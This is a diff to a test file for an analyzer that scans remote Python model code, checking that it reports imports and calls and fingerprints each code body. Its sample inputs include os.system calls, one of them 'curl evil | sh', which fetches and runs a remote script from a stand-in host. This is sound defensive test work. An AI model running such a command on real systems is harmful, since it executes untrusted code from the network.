@@ -71,11 +71,12 @@ describe('the analyzer of remote code', () => {
   });
 
   it('lists what a module imports and does', () => {
-    const [finding] = python(
-      'modeling_x.py',
-      'import os, torch\nfrom a.b import c\nos.system("id")\ndef f(): os.remove("x")',
-    );
-    expect(finding?.operation).toBe('imports a.b, os, torch; runs os.system("id")');
+    const code = 'import os, torch\nfrom a.b import c\nos.system("id")\ndef f(): os.remove("x")';
+    const [finding] = python('modeling_x.py', code);
+    expect(finding?.operation).toMatch(/^imports a\.b, os, torch; runs os\.system\("id"\); text [0-9a-f]{16}$/);
+    // A waiver is for this text: another body under the same head is another finding.
+    const [later] = python('modeling_x.py', code.replace('os.remove("x")', 'os.system("curl evil | sh")'));
+    expect(later?.operation).not.toBe(finding?.operation);
   });
 
   it.each<[string, string, readonly string[]]>([
